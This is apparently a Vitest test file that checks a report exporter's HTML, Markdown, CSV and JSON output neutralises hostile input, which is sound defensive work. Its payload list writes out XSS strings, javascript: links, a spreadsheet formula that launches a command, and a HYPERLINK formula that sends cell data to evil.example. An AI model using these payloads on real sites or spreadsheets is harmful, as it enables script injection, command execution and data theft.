// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import type { WireReport } from '#lib/api/report.ts';
import { hostileWords, withWords } from '#test/hostile/words.ts';
import { csvRows } from '#test/referee/csv.ts';
import { askReport } from './ask-report.ts';
import { reportFile } from './report-file.ts';
import { asked, octoberHistory } from './testing/october.ts';
import { recorded } from './testing/recorded.ts';

const origin = 'https://plumbline.example.org';
const honest = await askReport(recorded(octoberHistory), asked());
/** Keys of our own words: times, and those of which there are a few. */
const own = new Set([
  ...['schema', 'asOf', 'version', 'from', 'to', 'day', 'openedAt', 'noticedAt', 'closedAt', 'recordedSince', 'upTo'],
  ...['bound', 'ended', 'worst', 'verdict', 'said', 'why', 'type'],
]);

/** Without those too long and of half characters, which come from no cluster. */
const words: readonly (readonly [string, string])[] = [
  ...Object.entries(hostileWords).filter(([name]) => !/too long|half/.test(name)),
  [
    'a script',
    `</title></style></script><script>document.title='harm'</script><svg onload=harm()><a href=javascript:harm()>`,
  ],
  ['an attribute', `" onmouseover="harm()" x='`],
  ['a formula', `=cmd|'/c calc'!A1`],
  ['a formula behind blanks', `\t\u00a0\u200b+HYPERLINK("https://evil.example/?"&A1;"x")`],
  ['a formula behind a semicolon', `x;=1+1;"@SUM(1)`],
  ['a formula of an East Asian keyboard', '\uff1d1+1'],
  [
    'a link of Markdown',
    `](javascript:harm()) [x](https://evil.example) ![y](https://evil.example/z.png) <https://evil.example>`,
  ],
  ['a table of Markdown', `a | b |\n|---|---|\n| c | d`],
  [
    'what GitHub makes links of',
    `www.evil.example https://evil.example evil@evil.example @everyone #1 $x$ [^1] <!-- hidden`,
  ],
];

function isReport(value: unknown, like: WireReport): value is WireReport {
  return typeof value === 'object' && value !== null && 'schema' in value && value.schema === like.schema;
}

function spoilt(word: string): WireReport {
  const named: WireReport['incidents']['worst'] = honest.incidents.worst.map((incident) => ({
    ...incident,
    suspect: {
      type: 'culprit',
      sentence: 'x',
      commit: { sha: 'a'.repeat(40), subject: 'x', author: 'x', pullRequest: { number: 1, href: 'x' }, href: 'x' },
      owners: ['x', 'x'],
    },
  }));
  const report = {
    ...honest,
    incidents: { ...honest.incidents, worst: named },
    scope: { ...honest.scope, cluster: 'x', label: 'x' },
  };
  const value = withWords(report, word, own);
  if (!isReport(value, honest)) throw new Error('no report');
  return value;
}

function textOf(word: string, format: 'html' | 'md' | 'csv' | 'json'): string {
  return [...reportFile(spoilt(word), format, origin).lines].join('');
}

describe.each(words)('a report whose every name is hostile: %s', (_name, word) => {
  it('is HTML that runs nothing and leads nowhere else', () => {
    const document = new DOMParser().parseFromString(textOf(word, 'html'), 'text/html');
    const planted = [...document.querySelectorAll('*')].filter(
      (element) =>
        /^(?:script|iframe|object|embed|img|base|form|link)$/i.test(element.tagName) ||
        element.getAttributeNames().some((name) => name.startsWith('on')),
    );
    expect(planted).toEqual([]);
    const links = [...document.querySelectorAll('[href]')].map((link) => link.getAttribute('href') ?? '');
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((href) => !href.startsWith(`${origin}/`) && !href.startsWith('#'))).toEqual([]);
    expect(document.title).toMatch(/ · Plumbline$/);
  });

  it('is Markdown in which every link is ours, and every table keeps its columns', () => {
    const text = textOf(word, 'md').replaceAll(/\\[\\`*_{}[\]<>|#~&!$^@:.]/g, '');
    for (const [, href] of text.matchAll(/\]\(([^)]*)\)/g)) expect(href?.startsWith(`${origin}/`)).toBe(true);
    expect(
      text.replaceAll(/\]\([^)]*\)/g, '').replaceAll(/<https:\/\/plumbline\.example\.org\/[^\s<>]*>/g, ''),
    ).not.toMatch(/:\/\/|www\.|<[a-z!/]|!\[/i);
    for (const block of text.split('\n\n').filter((each) => each.startsWith('| '))) {
      const widths = block.split('\n').map((line) => line.split('|').length);
      expect(new Set(widths).size).toBe(1);
    }
  });

  it('is CSV of which a spreadsheet runs nothing', () => {
    const rows = csvRows(textOf(word, 'csv'));
    expect(new Set(rows.map((row) => Object.keys(row).length)).size).toBe(1);
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /(?:^|;)[\s"]*[=+@\uff1d\uff0b\uff0d\uff20]/.test(String(cell)))).toEqual([]);
  });

  it.each(['html', 'md', 'csv', 'json'] as const)('has nothing that nobody sees, as %s', (format) => {
    const text = textOf(word, format);
    expect(text).not.toMatch(/(?![\t\n\r])\p{Cc}/u);
    expect(text).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad]/);
    expect(text.isWellFormed()).toBe(true);
  });
});
